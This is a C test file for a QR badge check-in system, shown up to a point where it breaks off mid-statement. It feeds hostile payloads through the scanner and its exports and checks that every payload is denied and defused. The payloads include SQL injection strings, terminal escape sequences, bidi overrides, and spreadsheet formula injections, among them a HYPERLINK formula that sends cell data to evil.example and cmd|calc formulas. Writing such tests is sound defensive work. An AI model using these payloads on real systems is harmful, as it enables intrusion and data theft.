/* Hostile QR payloads through a station's camera path: SQL injection,
 * NUL and 0xFF bytes, invalid UTF-8, overlongs and lone surrogates,
 * terminal escape sequences and C1 controls, bidi overrides, the largest
 * payloads a QR code holds, badges with garbage, secrets with hostile
 * characters and spreadsheet formulas.  Each is encoded by libqrencode,
 * drawn into synthetic camera frames (synth.h) and fed to the real
 * `checkin scan --frames` at a desk, a door and a sponsor's station; then
 * the JSON lines are parsed with jansson, the journal's bytes compared
 * with the payload, the database checked, the CSV export read back with
 * an RFC 4180 reader of its own and the JSON export with jansson.  The
 * full-screen display runs the same frames (and typed codes) under tmux,
 * whose pane output is recorded byte for byte. */
#include <jansson.h>
#include <qrencode.h>
#include <sqlite3.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "checkin/credential.h"
#include "checkin/decode.h"
#include "checkin/synth.h"
#include "checkin/text.h"
#include "testutil.h"

#define OLIVIA "xkb346zeaty3cvp6ghfc8fsz2wuhkq4h" /* a paid ticket secret */

/* Frames: 1280x720 like the stations' cameras; the version 40 codes (185
 * modules with the quiet zone) cannot be read at 720p in video mode (3.9
 * px/module at most, halved by the downscale pass), so they are shown to a
 * 1080p camera. */
#define FW 1280
#define FH 720
#define GW 1920
#define GH 1080

/* Q_ECI_*: an 8-bit segment under an ECI header (ISO/IEC 18004, ECI
 * mode): 26 says UTF-8, 3 ISO-8859-1; zbar converts such payloads to
 * UTF-8 (docs/decoder.md). */
enum qr_mode { Q_BYTES, Q_NUMERIC, Q_ECI_UTF8, Q_ECI_LATIN1 };

struct payload {
    const char *name;
    uint8_t *bytes; /* what a station reads: the QR code's bytes, or what
                       zbar converts an ECI payload to (owned) */
    size_t len;
    const uint8_t *raw; /* what the QR code holds, if not `bytes` */
    size_t raw_len;
    enum qr_mode mode;
    const char *reason; /* the reason token at every station */
    bool plain;         /* text an export may write as it is */
    bool giant;         /* version 40 */
};

static struct payload P[64];
static size_t NP, NSMALL; /* payloads; those before the giants */

static void add(const char *name, const void *bytes, size_t len,
                enum qr_mode mode, const char *reason, bool plain, bool giant)
{
    if (NP == sizeof(P) / sizeof(P[0])) {
        TU_FAIL_AT("too many payloads");
        return;
    }
    struct payload *p = &P[NP++];
    p->name = name;
    p->bytes = malloc(len + 1);
    memcpy(p->bytes, bytes, len);
    p->bytes[len] = '\0';
    p->len = len;
    p->mode = mode;
    p->reason = reason;
    p->plain = plain;
    p->giant = giant;
}

/* A string literal with its NUL bytes, not cut at the first. */
#define ADD(name, lit, reason, plain)                                          \
    add(name, lit, sizeof(lit) - 1, Q_BYTES, reason, plain, false)

static void issue_badge(const char *db, const char *ticket,
                        char out[BADGE_TEXT_CAP])
{
    struct ck_error err = {0};
    store *s;
    struct badge_key key;
    struct attendee_list l;
    out[0] = '\0';
    if (store_open(db, STORE_EXISTING, &s, &err)) {
        TU_FAIL_AT("open: %s", err.msg);
        return;
    }
    if (credential_load_key(s, tu_path("event.key"), &key, &err) ||
        store_attendee_find_one(s, ticket, &l, &err)) {
        TU_FAIL_AT("issue: %s", err.msg);
    } else {
        if (credential_current(s, &key, l.items[0].id, 0, out, &err))
            TU_FAIL_AT("issue: %s", err.msg);
        attendee_list_free(&l);
        badge_key_wipe(&key);
    }
    store_close(s);
}

static void make_payloads(const char *badge)
{
    if (NP)
        return;
    /* SQL injection: bound parameters everywhere, so only text. */
    ADD("sql-drop", "'; DROP TABLE scan; --", "unknown-code", true);
    ADD("sql-or", "\" OR 1=1 --", "unknown-code", true);
    /* No spaces: this one reaches the ticket-secret lookup. */
    ADD("sql-tautology", "'OR'1'='1'--", "unknown-code", true);
    /* A secret's length, and OLIVIA's secret under LIKE. */
    ADD("sql-like", "xkb346zeaty3cvp6ghfc8fsz2wuhk%_%", "unknown-code", true);
    ADD("sql-crlf", "'; DROP TABLE ticket_secret; --\r\n", "unknown-code",
        false);
    ADD("ck1-sql", "CK1:'; DROP TABLE scan; --", "malformed", true);
    ADD("ck9-sql", "CK9:'; DROP TABLE scan; --", "unknown-version", true);
    char garbage[BADGE_V1_TEXT_LEN + 1];
    snprintf(garbage, sizeof(garbage), "CK1:");
    for (int i = 4; i < BADGE_V1_TEXT_LEN; i++)
        garbage[i] = "abc'\";--%_"[i % 10];
    add("ck1-garbage-121", garbage, BADGE_V1_TEXT_LEN, Q_BYTES, "malformed",
        true, false);
    for (int i = 4; i < BADGE_V1_TEXT_LEN; i++)
        garbage[i] = (char)(i * 37 % 256); /* NUL, controls, 0xFF ... */
    add("ck1-binary-121", garbage, BADGE_V1_TEXT_LEN, Q_BYTES, "malformed",
        false, false);
    /* The same at version 2's length. */
    char garbage2[BADGE_TEXT_LEN + 1];
    snprintf(garbage2, sizeof(garbage2), "CK2:");
    for (int i = 4; i < BADGE_TEXT_LEN; i++)
        garbage2[i] = "abc'\";--%_"[i % 10];
    add("ck2-garbage-133", garbage2, BADGE_TEXT_LEN, Q_BYTES, "malformed", true,
        false);
    /* Binary. */
    ADD("nul-after-secret", OLIVIA "\0; DROP TABLE scan", "unknown-code",
        false);
    ADD("ff-bytes", "\xff\xfe\xff\xff\x00\xff\xfe\xfd", "unknown-code", false);
    ADD("invalid-utf8", "caf\xe9 \xc3\x28 \xa0\xa1 \xe2\x28\xa1 \xf0\x28\x8c",
        "unknown-code", false);
    ADD("overlong", "\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf\xc0\x80",
        "unknown-code", false);
    ADD("lone-surrogates", "\xed\xa0\x80 \xed\xbf\xbf \xed\xa0\xbd\xed\xb8\x80",
        "unknown-code", false);
    /* Terminal escapes and controls. */
    ADD("esc-clear", "\x1b[2J\x1b[HWIPED", "unknown-code", false);
    ADD("osc-title", "\x1b]0;PWNED\x07", "unknown-code", false);
    ADD("osc8-link", "\x1b]8;;https://evil.example/\x1b\\Click\x1b]8;;\x1b\\",
        "unknown-code", false);
    ADD("csi-cursor", "\x1b[1;1H\x1b[42mADMIT\x1b[0m\x1b[10A\x1b[s\x1b[u",
        "unknown-code", false);
    /* C1 CSI as a byte and as UTF-8 (U+009B), OSC U+009D, ST U+009C; octal
     * where a digit follows. */
    ADD("c1-csi-byte", "\2332J\2331;1HADMIT", "unknown-code", false);
    ADD("c1-utf8", "\302\2332J\302\2350;PWNED\xc2\x9c", "unknown-code", false);
    ADD("backspace-cr", "DENY\b\b\b\bADMIT\rADMIT \x7f", "unknown-code", false);
    /* Bidi and invisible characters. */
    ADD("rlo", "\xe2\x80\xaegnp.exe", "unknown-code", false);
    /* LRE RLE PDF LRO, LRI RLI FSI PDI, LRM RLM ALM. */
    ADD("bidi-all",
        "\xe2\x80\xaaq\xe2\x80\xabr\xe2\x80\xacs\xe2\x80\xadt"
        "\xe2\x81\xa6u\xe2\x81\xa7v\xe2\x81\xa8w\xe2\x81\xa9x"
        "\xe2\x80\x8e\xe2\x80\x8f\xd8\x9c",
        "unknown-code", false);
    ADD("zero-width", "Ol\xe2\x80\x8divia\xe2\x80\x8b\xe2\x80\x8c\xef\xbb\xbf",
        "unknown-code", true);
    ADD("homoglyph-secret", "\xd1\x85kb346zeaty3cvp6ghfc8fsz2wuhkq4h",
        "unknown-code", true);
    /* Credentials with garbage. */
    ADD("secret-hostile-32", "xkb346zeaty3cvp6ghfc8fsz'--\x1b[2J",
        "unknown-code", false);
    char buf[512];
    snprintf(buf, sizeof(buf), "%s'; DROP TABLE scan; --", badge);
    add("badge-trailing", buf, strlen(buf), Q_BYTES, "malformed", true, false);
    static const char tail[10] = "\0\xff garbage";
    snprintf(buf, sizeof(buf), "%s", badge);
    memcpy(buf + BADGE_TEXT_LEN, tail, sizeof(tail));
    add("badge-trailing-nul", buf, BADGE_TEXT_LEN + 10, Q_BYTES, "malformed",
        false, false);
    add("badge-truncated", badge, 60, Q_BYTES, "malformed", true, false);
    /* Spreadsheet formulas (the journal is exported to CSV). */
    ADD("formula-hyperlink",
        "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Your badge\")",
        "unknown-code", true);
    ADD("formula-cmd", "+cmd|' /C calc'!A0", "unknown-code", true);
    ADD("formula-sum", "@SUM(1+1)*cmd|' /C calc'!A0", "unknown-code", true);
    ADD("formula-minus", "-2+3+cmd|' /C calc'!A0", "unknown-code", true);
    ADD("formula-tab", "\t=1+1", "unknown-code", false);
    /* zbar converts an ECI 3 payload from Latin-1: the station reads the
     * C1 CSI 0x9B as U+009B, and é as UTF-8. */
    ADD("eci-latin1-c1", "\302\2332J\x1b]0;PWNED\x07\xc3\xa9", "unknown-code",
        false);
    P[NP - 1].mode = Q_ECI_LATIN1;
    static const char latin1[] = "\2332J\x1b]0;PWNED\x07\xe9";
    P[NP - 1].raw = (const uint8_t *)latin1;
    P[NP - 1].raw_len = sizeof(latin1) - 1;
    NSMALL = NP;
    /* The largest payloads: version 40 at level L. */
    static uint8_t big[2953];
    uint32_t x = 0x5eed;
    snprintf((char *)big, sizeof(big), "CK1:");
    for (size_t i = 4; i < sizeof(big); i++) {
        x ^= x << 13, x ^= x >> 17, x ^= x << 5;
        big[i] = (uint8_t)x;
    }
    add("max-binary", big, sizeof(big), Q_BYTES, "unknown-code", false, true);
    static char digits[7000];
    for (size_t i = 0; i < sizeof(digits); i++)
        digits[i] = (char)('0' + (i * 7 + i / 10) % 10);
    add("huge-number", digits, sizeof(digits), Q_NUMERIC, "unknown-code", true,
        true);
}

/* ---- QR codes and camera frames ---- */

/* `p` as a QR code: one byte per module, 0 dark, with the 4-module quiet
 * zone, as synth_draw takes it.  Caller frees out->pixels. */
static bool qr_modules(const struct payload *p, struct gray_frame *out,
                       int *version)
{
    QRinput *in = QRinput_new2(0, p->giant ? QR_ECLEVEL_L : QR_ECLEVEL_M);
    QRcode *qr = NULL;
    unsigned eci = p->mode == Q_ECI_UTF8 ? 26 : p->mode == Q_ECI_LATIN1 ? 3 : 0;
    if (in && (!eci || QRinput_appendECIheader(in, eci) == 0) &&
        QRinput_append(in, p->mode == Q_NUMERIC ? QR_MODE_NUM : QR_MODE_8,
                       (int)(p->raw ? p->raw_len : p->len),
                       p->raw ? p->raw : p->bytes) == 0)
        qr = QRcode_encodeInput(in);
    QRinput_free(in);
    if (!qr) {
        TU_FAIL_AT("libqrencode cannot encode %s (%zu bytes)", p->name, p->len);
        return false;
    }
    int side = qr->width + 8;
    uint8_t *px = malloc((size_t)side * side);
    memset(px, 255, (size_t)side * side);
    for (int y = 0; y < qr->width; y++)
        for (int x = 0; x < qr->width; x++)
            if (qr->data[y * qr->width + x] & 1)
                px[(size_t)(y + 4) * side + x + 4] = 0;
    *out = (struct gray_frame){px, side, side, (size_t)side};
    *version = qr->version;
    QRcode_free(qr);
    return true;
}

/* A raw GREY stream of payloads [from, to): the empty desk, then each
 * code on paper held for two frames with a little hand shake. */
static void write_frames(const char *path, size_t from, size_t to, int w, int h,
                         double module_px)
{
    FILE *f = fopen(path, "wb");
    uint8_t *px = malloc((size_t)w * h);
    struct ck_error err = {0};
    uint32_t seed = 1;
    REQUIRE(f && px);
    if (synth_draw(NULL, NULL, 0, 0, seed++, px, w, h, &err) == CK_OK)
        fwrite(px, 1, (size_t)w * h, f);
    for (size_t i = from; i < to; i++) {
        struct gray_frame code;
        int version;
        if (!qr_modules(&P[i], &code, &version))
            continue;
        if (P[i].giant)
            EXPECT_INT(version, 40);
        struct synth_look look = {.surface = SYNTH_PAPER,
                                  .module_px = module_px};
        for (int k = 0; k < 2; k++) {
            if (synth_draw(&code, &look, k, -k, seed++, px, w, h, &err)) {
                TU_FAIL_AT("synth_draw %s: %s", P[i].name, err.msg);
                break;
            }
            fwrite(px, 1, (size_t)w * h, f);
        }
        free((void *)code.pixels);
    }
    if (fclose(f))
        TU_FAIL_AT("writing %s", path);
    free(px);
}

static const char *small_frames, *giant_frames;

static void make_frames(void)
{
    if (small_frames)
        return;
    small_frames = strdup(tu_path("small.grey"));
    giant_frames = strdup(tu_path("giant.grey"));
    write_frames(small_frames, 0, NSMALL, FW, FH, 4);
    write_frames(giant_frames, NSMALL, NP, GW, GH, 5);
}

/* ---- reading what came out ---- */

/* The JSON lines a `checkin scan --json` printed, each parsed by jansson;
 * the bytes must be printable ASCII (JSON_ENSURE_ASCII) and newlines. */
static void json_lines(const char *out, json_t *into)
{
    for (const char *c = out; *c; c++)
        if ((*c < 0x20 || *c > 0x7e) && *c != '\n') {
            TU_FAIL_AT("byte 0x%02x in the JSON lines at %zu",
                       (unsigned)(unsigned char)*c, (size_t)(c - out));
            break;
        }
    const char *p = out;
    while (*p) {
        const char *nl = strchr(p, '\n');
        size_t len = nl ? (size_t)(nl - p) : strlen(p);
        json_error_t e;
        json_t *o = json_loadb(p, len, 0, &e);
        if (!o)
            TU_FAIL_AT("not JSON (%s): %.*s", e.text, (int)len, p);
        else
            json_array_append_new(into, o);
        p = nl ? nl + 1 : p + len;
    }
}

static const char *field(json_t *o, const char *key)
{
    json_t *v = json_object_get(o, key);
    return json_is_string(v) ? json_string_value(v) : "";
}

static void hex(const uint8_t *b, size_t len, char *out)
{
    for (size_t i = 0; i < len; i++)
        snprintf(out + 2 * i, 3, "%02x", b[i]);
    out[2 * len] = '\0';
}

/* Whether `needle` (len bytes) occurs in `hay`. */
static bool has_bytes(const char *hay, size_t hay_len, const void *needle,
                      size_t len)
{
    return len && hay_len >= len && memmem(hay, hay_len, needle, len);
}

/* Run `checkin scan` on both frame files; the decisions, in order. */
static json_t *scan(const char *db, const char *station_args)
{
    json_t *all = json_array();
    const char *files[] = {small_frames, giant_frames};
    const int w[] = {FW, GW}, h[] = {FH, GH};
    for (int i = 0; i < 2; i++) {
        char args[8192];
        const char *out, *err;
        snprintf(args, sizeof(args),
                 "scan '%s' %s --frames '%s' --size %dx%d --format GREY "
                 "--json",
                 db, station_args, files[i], w[i], h[i]);
        int rc = tu_checkin(args, &out, &err);
        EXPECT_INT(rc, 0);
        if (rc)
            fprintf(stderr, "%s\n", err);
        json_lines(out, all);
    }
    return all;
}

/* The payload the journal row with `code` holds, or -1. */
static int payload_of(const void *code, size_t len)
{
    for (size_t i = 0; i < NP; i++)
        if (P[i].len == len && !memcmp(P[i].bytes, code, len))
            return (int)i;
    return -1;
}

/* Whether any 8 bytes in a row of `p` are in `text`. */
static bool echoes(const char *text, const struct payload *p)
{
    size_t n = strlen(text);
    for (size_t i = 0; i + 8 <= p->len; i++)
        if (has_bytes(text, n, p->bytes + i, 8))
            return true;
    return false;
}

/* The first `n` payloads each decided once, in order: denied with the
 * payload's reason and a sentence that does not echo the code. */
static void check_decisions(const char *station, json_t *d, size_t n)
{
    EXPECT_INT(json_array_size(d), n);
    for (size_t i = 0; i < n && i < json_array_size(d); i++) {
        json_t *o = json_array_get(d, i);
        const char *text = field(o, "reason_text");
        if (strcmp(field(o, "decision"), "deny") != 0 ||
            strcmp(field(o, "reason"), P[i].reason) != 0)
            TU_FAIL_AT("%s, %s: %s (%s), expected deny (%s)", station,
                       P[i].name, field(o, "decision"), field(o, "reason"),
                       P[i].reason);
        size_t len = strlen(text);
        if (len < 40 || text[len - 1] != '.')
            TU_FAIL_AT("%s, %s: not a sentence: \"%s\"", station, P[i].name,
                       text);
        if (echoes(text, &P[i]))
            TU_FAIL_AT("%s, %s: the sentence echoes the code: \"%s\"", station,
                       P[i].name, text);
        EXPECT_TRUE(json_is_true(json_object_get(o, "recorded")));
        EXPECT_INT(json_integer_value(json_object_get(o, "seq")), i + 1);
        EXPECT_TRUE(json_object_get(o, "badge_name") == NULL);
    }
}

/* The journal of `station` holds the first `n` payloads, byte for byte,
 * as seq 1..n, denied with their reasons; a door holds a code that is
 * not a checkin badge as its hash (docs/sync.md, "What each role
 * holds"), so there the payload's hash counts as the payload. */
static void check_journal(const char *db, const char *station, size_t n)
{
    sqlite3 *s;
    sqlite3_stmt *q;
    REQUIRE(sqlite3_open_v2(db, &s, SQLITE_OPEN_READONLY, NULL) == SQLITE_OK);
    sqlite3_prepare_v2(s,
                       "SELECT seq, code, decision, reason FROM scan "
                       "WHERE station = ?1 ORDER BY seq",
                       -1, &q, NULL);
    sqlite3_bind_text(q, 1, station, -1, SQLITE_STATIC);
    size_t rows = 0;
    while (sqlite3_step(q) == SQLITE_ROW) {
        size_t i = rows++;
        const void *code = sqlite3_column_blob(q, 1);
        size_t len = (size_t)sqlite3_column_bytes(q, 1);
        if (i >= n)
            continue;
        EXPECT_INT(sqlite3_column_int64(q, 0), i + 1);
        char hashed[CREDENTIAL_SECRET_HASH_CHARS];
        credential_secret_hash(P[i].bytes, P[i].len, hashed);
        if (!strncmp(station, "door", 4) && len == strlen(hashed) &&
            !memcmp(code, hashed, len)) {
            code = P[i].bytes;
            len = P[i].len;
        }
        if (len != P[i].len || memcmp(code, P[i].bytes, len) != 0) {
            int j = payload_of(code, len);
            TU_FAIL_AT("%s seq %zu: the journal holds %zu bytes (%s), "
                       "expected the %zu of %s",
                       station, i + 1, len, j >= 0 ? P[j].name : "no payload's",
                       P[i].len, P[i].name);
        }
        EXPECT_STR((const char *)sqlite3_column_text(q, 2), "deny");
        EXPECT_STR((const char *)sqlite3_column_text(q, 3), P[i].reason);
    }
    EXPECT_INT(rows, n);
    sqlite3_finalize(q);
    sqlite3_close(s);
}

/* ---- the database is untouched but for the journal ---- */

struct snapshot {
    char schema[65536];
    char counts[4096]; /* "table=rows;" for every table but scan */
};

static void take(const char *db, struct snapshot *out)
{
    sqlite3 *s;
    sqlite3_stmt *q;
    memset(out, 0, sizeof(*out));
    REQUIRE(sqlite3_open_v2(db, &s, SQLITE_OPEN_READONLY, NULL) == SQLITE_OK);
    sqlite3_prepare_v2(s,
                       "SELECT type, name, coalesce(sql, '') FROM "
                       "sqlite_master ORDER BY type, name",
                       -1, &q, NULL);
    size_t n = 0, m = 0;
    while (sqlite3_step(q) == SQLITE_ROW) {
        const char *type = (const char *)sqlite3_column_text(q, 0);
        const char *name = (const char *)sqlite3_column_text(q, 1);
        int w = snprintf(out->schema + n, sizeof(out->schema) - n, "%s %s %s;",
                         type, name, sqlite3_column_text(q, 2));
        if (w > 0 && (size_t)w < sizeof(out->schema) - n)
            n += (size_t)w;
        if (strcmp(type, "table") != 0 || !strcmp(name, "scan"))
            continue;
        char sql[300];
        sqlite3_stmt *c;
        snprintf(sql, sizeof(sql), "SELECT count(*) FROM \"%s\"", name);
        if (sqlite3_prepare_v2(s, sql, -1, &c, NULL) == SQLITE_OK &&
            sqlite3_step(c) == SQLITE_ROW) {
            w = snprintf(out->counts + m, sizeof(out->counts) - m, "%s=%lld;",
                         name, (long long)sqlite3_column_int64(c, 0));
            if (w > 0 && (size_t)w < sizeof(out->counts) - m)
                m += (size_t)w;
        }
        sqlite3_finalize(c);
    }
    sqlite3_finalize(q);
    sqlite3_close(s);
}

static void expect_intact(const char *db, const struct snapshot *before,
                          long scans)
{
    struct snapshot after;
    take(db, &after);
    EXPECT_STR(after.schema, before->schema);
    EXPECT_STR(after.counts, before->counts);
    sqlite3 *s;
    sqlite3_stmt *q;
    REQUIRE(sqlite3_open_v2(db, &s, SQLITE_OPEN_READONLY, NULL) == SQLITE_OK);
    sqlite3_prepare_v2(s, "PRAGMA integrity_check", -1, &q, NULL);
    REQUIRE(sqlite3_step(q) == SQLITE_ROW);
    EXPECT_STR((const char *)sqlite3_column_text(q, 0), "ok");
    sqlite3_finalize(q);
    sqlite3_prepare_v2(s, "PRAGMA foreign_key_check", -1, &q, NULL);
    EXPECT_INT(sqlite3_step(q), SQLITE_DONE);
    sqlite3_finalize(q);
    sqlite3_prepare_v2(s, "SELECT count(*) FROM scan", -1, &q, NULL);
    REQUIRE(sqlite3_step(q) == SQLITE_ROW);
    EXPECT_INT(sqlite3_column_int64(q, 0), scans);
    sqlite3_finalize(q);
    sqlite3_close(s);
}

/* ---- the tests ---- */

static const char *event(void)
{
    static char badge[BADGE_TEXT_CAP];
    const char *db = tu_demo_event();
    if (!badge[0])
        issue_badge(db, "48243", badge); /* Olivia's badge */
    make_payloads(badge);
    return db;
}

static const char *hostile_db; /* the desk's and door's journal, merged */

static void stations_deny_and_journal_exact_bytes(void)
{
    const char *ev = event();
    hostile_db = tu_copy(ev, "hostile.db");
    make_frames();
    /* The sponsor's station file, made from (and registered in) the
     * database it is merged back into. */
    const char *lead_db = tu_path("leads-h.db");
    char args[8192];
    const char *out, *err;
    snprintf(args, sizeof(args), "station-db '%s' leads:datawise '%s'",
             hostile_db, lead_db);
    REQUIRE(tu_checkin(args, &out, &err) == 0);
    struct snapshot before;
    take(hostile_db, &before);

    json_t *d = scan(hostile_db, "--station desk --name desk-h");
    check_decisions("desk-h", d, NP);
    check_journal(hostile_db, "desk-h", NP);
    json_decref(d);
    d = scan(hostile_db, "--station door:pandas-intro --name door-h --clock "
                         "'2027-05-12 09:05'");
    check_decisions("door-h", d, NP);
    check_journal(hostile_db, "door-h", NP);
    json_decref(d);

    d = scan(lead_db, "--station leads:datawise --name leads-h");
    check_decisions("leads-h", d, NP);
    check_journal(lead_db, "leads-h", NP);
    json_decref(d);

    /* The lead station's journal joins the event's, bytes and all, and
     * nothing else changed: no table, no row, no attendee. */
    snprintf(args, sizeof(args), "merge '%s' '%s'", hostile_db, lead_db);
    REQUIRE(tu_checkin(args, &out, &err) == 0);
    check_journal(hostile_db, "leads-h", NP);
    expect_intact(hostile_db, &before, 3 * (long)NP);
}

/* An ECI 26 header promises UTF-8; zbar converts such a payload and,
 * when the bytes are not UTF-8, drops the whole symbol: the station sees
 * no code at all (no decision, nothing stored), never a part of one.  The
 * same header over valid UTF-8 reads, so the frame itself is readable. */
static void eci_utf8_header_over_invalid_bytes_reads_nothing(void)
{
    /* FF FE, "abc", an overlong "/" */
    static const char bad[] = "\xff\xfe\x61\x62\x63\xc0\xaf";
    static const char good[] = "abc\xc3\xa9";
    const char *const raw[] = {bad, good};
    const size_t len[] = {sizeof(bad) - 1, sizeof(good) - 1};
    struct decoder_options opt = {DECODE_STILL, 0};
    decoder *dec;
    struct ck_error err = {0};
    uint8_t *px = malloc((size_t)FW * FH);
    REQUIRE(px && decoder_new(&opt, &dec, &err) == CK_OK);
    for (int k = 0; k < 2; k++) {
        struct payload p = {.name = k ? "eci-utf8" : "eci-utf8-invalid",
                            .raw = (const uint8_t *)raw[k],
                            .raw_len = len[k],
                            .mode = Q_ECI_UTF8};
        struct gray_frame code;
        int version;
        if (!qr_modules(&p, &code, &version))
            continue;
        struct synth_look look = {.surface = SYNTH_PAPER, .module_px = 4};
        struct decode_result r = {0};
        if (synth_draw(&code, &look, 0, 0, 7, px, FW, FH, &err) ||
            decoder_decode(dec, &(struct gray_frame){px, FW, FH, FW}, &r, &err))
            TU_FAIL_AT("%s: %s", p.name, err.msg);
        EXPECT_INT(r.count, k);
        if (k && r.count == 1)
            EXPECT_STR((const char *)r.codes[0].bytes, good);
        decode_result_free(&r);
        free((void *)code.pixels);
    }
    decoder_free(dec);
    free(px);
}

/* ---- exports ---- */

/* RFC 4180, strictly: rows of cells (jansson strings, any bytes), or NULL
 * with a failure if the text is not well-formed CSV. */
static json_t *read_csv(const char *s, size_t len)
{
    json_t *rows = json_array(), *row = json_array();
    char *cell = malloc(len + 1);
    size_t n = 0, i = 0;
    bool quoted = false, fresh = true; /* inside quotes; at a cell start */
    while (i < len) {
        char c = s[i];
        if (quoted) {
            if (c != '"') {
                cell[n++] = c;
            } else if (i + 1 < len && s[i + 1] == '"') {
                cell[n++] = '"';
                i++;
            } else {
                quoted = false;
                if (i + 1 < len && s[i + 1] != ',' && s[i + 1] != '\r')
                    goto bad; /* text after the closing quote */
            }
            i++;
            continue;
        }
        if (c == '"' && fresh) {
            quoted = true;
            fresh = false;
            i++;
            continue;
        }
        if (c == ',' || (c == '\r' && i + 1 < len && s[i + 1] == '\n')) {
            json_array_append_new(row, json_stringn_nocheck(cell, n));
            n = 0;
            fresh = true;
            if (c == '\r') {
                json_array_append_new(rows, row);
                row = json_array();
                i++;
            }
            i++;
            continue;
        }
        if (c == '"' || c == '\r' || c == '\n')
            goto bad; /* must be quoted */
        cell[n++] = c;
        fresh = false;
        i++;
    }
    if (quoted || n || json_array_size(row))
        goto bad; /* unterminated */
    json_decref(row);
    free(cell);
    return rows;
bad:
    TU_FAIL_AT("not RFC 4180 CSV at byte %zu", i);
    json_decref(row);
    json_decref(rows);
    free(cell);
    return NULL;
}

static int column(json_t *header, const char *name)
{
    for (size_t i = 0; i < json_array_size(header); i++)
        if (!strcmp(json_string_value(json_array_get(header, i)), name))
            return (int)i;
    TU_FAIL_AT("no column %s in the export", name);
    return 0;
}

/* The payload a row of our stations holds, or NULL for other rows. */
static const struct payload *row_payload(const char *station, long long seq)
{
    if (strcmp(station, "desk-h") != 0 && strcmp(station, "door-h") != 0 &&
        strcmp(station, "leads-h") != 0)
        return NULL;
    if (seq < 1 || seq > (long long)NP) {
        TU_FAIL_AT("%s has no seq %lld", station, seq);
        return NULL;
    }
    return &P[seq - 1];
}

/* What the export holds of `p` at `station`, whose code_hex is
 * `got_hex`: a door journals a code that is not a checkin badge as its
 * hash (docs/sync.md, "What each role holds"), plain text. */
static const struct payload *
as_journaled(const struct payload *p, const char *station, const char *got_hex)
{
    static struct payload hashed;
    static char text[CREDENTIAL_SECRET_HASH_CHARS];
    if (!p || strcmp(station, "door-h") != 0)
        return p;
    credential_secret_hash(p->bytes, p->len, text);
    char want[2 * CREDENTIAL_SECRET_HASH_CHARS + 1];
    hex((const uint8_t *)text, strlen(text), want);
    if (!got_hex || strcmp(got_hex, want) != 0)
        return p;
    hashed = *p;
    hashed.bytes = (uint8_t *)text;
    hashed.len = strlen(text);
    hashed.plain = true;
    return &hashed;
}

/* OWASP "CSV injection": a cell starting with one of these is a formula
 * to Excel, LibreOffice and Google Sheets. */
static bool formula_start(const uint8_t *s, size_t len)
{
    return len && strchr("=+-@\t\r", s[0]);
}

static void csv_export_defuses_formulas_and_keeps_bytes_in_hex(void)
{
    REQUIRE(hostile_db);
    char args[4200];
    const char *out, *err;
    snprintf(args, sizeof(args), "export '%s' scans --format csv", hostile_db);
    REQUIRE(tu_checkin(args, &out, &err) == 0);
    size_t len = strlen(out);
    /* Nothing a terminal or a spreadsheet would act on. */
    EXPECT_TRUE(decode_is_utf8((const uint8_t *)out, len));
    for (size_t i = 0; i < len; i++)
        if ((unsigned char)out[i] < 0x20 &&
            !(out[i] == '\r' && out[i + 1] == '\n') &&
            !(out[i] == '\n' && i && out[i - 1] == '\r')) {
            TU_FAIL_AT("control byte 0x%02x in the CSV at %zu",
                       (unsigned)out[i], i);
            break;
        }
    EXPECT_TRUE(!strstr(out, "\xe2\x80\xae") && !strstr(out, "\xc2\x9b"));
    json_t *rows = read_csv(out, len);
    REQUIRE(rows);
    json_t *head = json_array_get(rows, 0);
    int c_station = column(head, "station"), c_seq = column(head, "seq"),
        c_code = column(head, "code"), c_hex = column(head, "code_hex");
    size_t ours = 0;
    for (size_t r = 1; r < json_array_size(rows); r++) {
        json_t *row = json_array_get(rows, r);
        for (size_t k = 0; k < json_array_size(row); k++) {
            json_t *cell = json_array_get(row, k);
            if (formula_start((const uint8_t *)json_string_value(cell),
                              json_string_length(cell)))
                TU_FAIL_AT("row %zu cell %zu is a formula: %s", r, k,
                           json_string_value(cell));
        }
        const char *station = json_string_value(json_array_get(row, c_station));
        const struct payload *p = as_journaled(
            row_payload(station,
                        strtoll(json_string_value(json_array_get(row, c_seq)),
                                NULL, 10)),
            station, json_string_value(json_array_get(row, c_hex)));
        if (!p)
            continue;
        ours++;
        char want[2 * 7000 + 2];
        hex(p->bytes, p->len, want);
        EXPECT_STR(json_string_value(json_array_get(row, c_hex)), want);
        json_t *code = json_array_get(row, c_code);
        const char *got = json_string_value(code);
        size_t got_len = json_string_length(code);
        if (!p->plain) {
            if (got_len)
                TU_FAIL_AT("%s: the CSV code cell should be empty, not "
                           "\"%s\"",
                           p->name, got);
            continue;
        }
        size_t skip = formula_start(p->bytes, p->len) ? 1 : 0;
        if (got_len != p->len + skip || (skip && got[0] != '\'') ||
            memcmp(got + skip, p->bytes, p->len) != 0)
            TU_FAIL_AT("%s: CSV code cell \"%s\"", p->name, got);
    }
    EXPECT_INT(ours, 3 * NP);
    json_decref(rows);
}

static void json_export_round_trips_every_code(void)
{
    REQUIRE(hostile_db);
    char args[4200];
    const char *out, *err;
    snprintf(args, sizeof(args), "export '%s' scans --format json", hostile_db);
    REQUIRE(tu_checkin(args, &out, &err) == 0);
    json_error_t je;
    json_t *root = json_loads(out, 0, &je);
    if (!root)
        TU_FAIL_AT("the JSON export does not parse: %s (line %d)", je.text,
                   je.line);
    json_t *rows = json_object_get(root, "scans");
    size_t ours = 0;
    for (size_t r = 0; r < json_array_size(rows); r++) {
        json_t *o = json_array_get(rows, r);
        const struct payload *p = as_journaled(
            row_payload(field(o, "station"),
                        json_integer_value(json_object_get(o, "seq"))),
            field(o, "station"), field(o, "code_hex"));
        if (!p)
            continue;
        ours++;
        /* Lossless: code_hex is the bytes, whatever they are. */
        const char *h = field(o, "code_hex");
        size_t n = strlen(h) / 2;
        uint8_t *bytes = malloc(n + 1);
        for (size_t i = 0; i < n; i++)
            bytes[i] =
                (uint8_t)strtol((char[]){h[2 * i], h[2 * i + 1], 0}, NULL, 16);
        if (n != p->len || memcmp(bytes, p->bytes, n) != 0)
            TU_FAIL_AT("%s: code_hex does not give back the code", p->name);
        free(bytes);
        /* And the text where it is text, else null. */
        json_t *code = json_object_get(o, "code");
        if (p->plain) {
            if (!json_is_string(code) || json_string_length(code) != p->len ||
                memcmp(json_string_value(code), p->bytes, p->len) != 0)
                TU_FAIL_AT("%s: JSON code is not the payload's text", p->name);
        } else if (!json_is_null(code)) {
            TU_FAIL_AT("%s: JSON code should be null, not \"%s\"", p->name,
